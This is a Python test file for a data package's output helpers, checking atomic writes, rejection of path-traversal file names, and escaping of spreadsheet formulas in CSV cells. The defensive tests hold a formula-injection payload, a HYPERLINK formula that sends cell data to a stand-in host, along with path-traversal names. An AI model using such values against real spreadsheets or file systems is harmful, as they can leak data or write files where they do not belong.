"""Output files: written whole or not at all, named in errors, never outside their folder."""

from __future__ import annotations

import errno
from pathlib import Path

import polars as pl
import pytest

from nhanes_mg.errors import OutputError
from nhanes_mg.files import atomic_write, inside, write_csv


def test_a_full_disk_names_the_file_and_keeps_the_old_one(tmp_path: Path) -> None:
    target = tmp_path / "tables" / "C3.csv"
    atomic_write(target, lambda p: p.write_text("old"))

    def full(path: Path) -> None:
        path.write_text("half")
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(OSError) as info:
        atomic_write(target, full)
    assert info.value.filename == str(target) and info.value.errno == errno.ENOSPC
    assert target.read_text() == "old"
    assert [p.name for p in target.parent.iterdir()] == ["C3.csv"]  # no temporary left


@pytest.mark.parametrize("name", ["../x.csv", "/abs.csv", "", "..", "a/b.csv", "a\\b.csv"])
def test_a_name_never_leaves_its_folder(tmp_path: Path, name: str) -> None:
    with pytest.raises(OutputError, match="is not a file name of this folder"):
        inside(tmp_path, name)
    assert inside(tmp_path, "C3_fits.csv") == tmp_path / "C3_fits.csv"


def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    """A label from someone's specification (``=HYPERLINK(…)``) reaches the tables as text a
    spreadsheet shows; numbers (negative ones too) stay numbers."""
    frame = pl.DataFrame(
        {
            "label": ['=HYPERLINK("http://x/?"&A2,"click")', "+1", "-x", "@SUM(A1)", "fine"],
            "estimate": [-1.5, 2.0, 0.1, -0.2, 3.0],
        }
    )
    target = tmp_path / "t.csv"
    write_csv(target, frame)
    back = pl.read_csv(target)
    assert back["label"].to_list() == ["'" + v for v in frame["label"].to_list()[:4]] + ["fine"]
    assert back["estimate"].to_list() == frame["estimate"].to_list()


def test_every_csv_the_package_writes_goes_through_write_csv() -> None:
    package = Path(__file__).parents[1] / "src" / "nhanes_mg"
    direct = [
        f"{path.relative_to(package)}:{number}"
        for path in package.rglob("*.py")
        if path.name != "files.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if ".write_csv" in line
    ]
    assert direct == []
